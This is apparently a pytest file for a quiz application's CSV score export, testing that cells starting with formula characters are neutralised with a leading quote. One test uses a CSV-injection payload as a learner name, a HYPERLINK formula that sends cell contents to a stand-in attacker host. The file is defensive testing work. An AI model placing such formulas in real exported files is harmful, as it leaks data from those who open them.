"""Score exports are safe to open in a spreadsheet (P9)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from gensec_quiz.domain.session import Mode
from gensec_quiz.storage import open_store
from gensec_quiz.storage.export import FORMULA_STARTS, neutralise, write_sessions_csv
from store_support import record


def test_a_formula_learner_name_is_exported_as_plain_text(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
    with open_store(tmp_path / "db.sqlite3") as store:
        learner = store.add_learner(name)
        store.add_learner("+Boris")
        session = store.start_session(learner_id=learner, question_set_id="@set",
                                      title="-minus", mode=Mode.PRACTICE, question_count=2)
        record(store, session, "q")
        store.finish_session(session)
        out = io.StringIO()
        write_sessions_csv(out, store.class_sessions())
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][0] == "learner" and len(rows) == 2
    learner_cell, _, set_cell, title_cell, *_rest, score_cell = rows[1]
    assert learner_cell == "'" + name
    assert (set_cell, title_cell, score_cell) == ("'@set", "'-minus", "0.500")


def test_every_dangerous_first_character_is_neutralised() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Anna") == "Anna" and neutralise("") == ""
    assert neutralise("'=already") == "'=already"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_exported_cell_reads_as_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)
